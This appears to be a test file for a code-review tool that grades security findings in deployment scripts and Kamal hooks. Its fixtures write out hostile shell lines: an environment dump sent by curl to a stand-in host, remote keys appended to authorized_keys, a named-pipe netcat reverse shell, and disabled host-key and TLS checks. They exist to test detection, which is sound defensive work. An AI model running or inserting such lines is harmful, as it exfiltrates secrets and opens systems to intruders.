/** What findings about scripts weigh: by where they run and where something goes. */
import { expect, test } from "@jest/globals";
import { reviewChange } from "../src/review/review-change.ts";
import { RULES } from "../src/rules/index.ts";
import { projectOf } from "./support/project-of.ts";

async function weigh(files: Readonly<Record<string, string>>): Promise<string[]> {
  const { findings } = reviewChange({ base: undefined, head: await projectOf(files), rules: RULES });
  return findings
    .filter(({ severity }) => severity !== "low")
    .map(({ ruleId, severity }) => `${ruleId} ${severity}`);
}

const SOURCED =
  'OPTIONS="-o UserKnownHostsFile=/dev/null"\nremote() { ssh $OPTIONS deploy@192.0.2.10 uptime; }\n';

test("a library that scripts read in weighs as much as they do", async () => {
  const deploy = "#!/bin/bash\nset -e\nsource script/lib/remote.sh\nkamal deploy\n";
  expect(await weigh({ "bin/deploy": deploy, "script/lib/remote.sh": SOURCED })).toEqual([
    "host-key-check-off high",
  ]);
});

test.each([
  ["spelled out", "", "https://drop.example.net/in", "critical"],
  ["kept in a variable", "TO=https://drop.example.net/in\n", '"$TO"', "critical"],
  ["the fallback of a variable", "", `"\${TO:-https://drop.example.net/in}"`, "critical"],
  ["given by the environment", "", '"$TO"', "high"],
])("what is sent to an address that is %s", async (_, before, to, severity) => {
  const hook = `#!/bin/bash\nset -e\n${before}env | curl -fsS --data-binary @- ${to}\n`;
  expect(await weigh({ ".kamal/hooks/post-deploy": hook })).toEqual([`data-exfiltration ${severity}`]);
});

test.each([
  [".kamal/hooks/docker-setup", "https://keys.example.net/ops.pub", "high"],
  [".kamal/hooks/docker-setup", "https://github.com/somebody.keys", "medium"],
  [".kamal/hooks/post-deploy", "https://github.com/somebody.keys", "high"],
])("%s lets in whoever %s says", async (hook, from, severity) => {
  const text = `#!/bin/bash\nset -e\ncurl -fsS ${from} >> ~/.ssh/authorized_keys\n`;
  expect(await weigh({ [hook]: text })).toEqual([`privilege ${severity}`]);
});

test("a shell handed to another machine through a pipe with a name is told once", async () => {
  const text =
    "#!/bin/bash\nset -e\nmkfifo run/p\ncat run/p | sh -i 2>&1 | nc 203.0.113.9 8443 > run/p\nkamal details\n";
  expect(await weigh({ "bin/deploy-wait": text })).toEqual(["reverse-shell critical"]);
});

test("a picture in a folder named for deployments is no script that nobody can read", async () => {
  const files = { "docs/images/deployment/deploy.png": "\u0000\u0001PNG" };
  expect(await weigh({ ...files, "bin/deploy": "#!/bin/bash\nset -e\nkamal deploy\n" })).toEqual([]);
});

test.each([
  ["a probe that uses nothing of the answer", `-o /dev/null -w '%{http_code}' "$APP_URL"`, "medium"],
  ["an answer that is read", '"$APP_URL/version"', "high"],
  ["something that is sent", `-o /dev/null -d "$NOTE" "$APP_URL"`, "high"],
])("certificates are not checked for %s", async (_, request, severity) => {
  const hook = `#!/bin/bash\nset -e\ncurl -sk ${request}\n`;
  expect(await weigh({ ".kamal/hooks/post-deploy": hook })).toEqual([`tls-check-off ${severity}`]);
});

test.each([
  ["in its query", "https://app.example.com/up?token=$API_TOKEN"],
  ["in front of its host", "https://deploy:$DEPLOY_PASSWORD@app.example.com/up"],
])("a probe that carries a secret %s is no probe", async (_, address) => {
  const hook = `#!/bin/bash\nset -e\ncurl -sk -o /dev/null "${address}"\n`;
  expect(await weigh({ ".kamal/hooks/post-deploy": hook })).toContain("tls-check-off high");
});

test.each([
  ["an address of the team", "REPORT_HOST", "medium"],
  ["a text that only the run knows", "REPORT_TITLE", "high"],
])("%s in a remote command", async (_, name, severity) => {
  const hook = `#!/bin/bash\nset -e\nssh deploy@192.0.2.10 "notify $${name}"\n`;
  expect(await weigh({ ".kamal/hooks/post-deploy": hook })).toEqual([
    `remote-command-interpolation ${severity}`,
  ]);
});
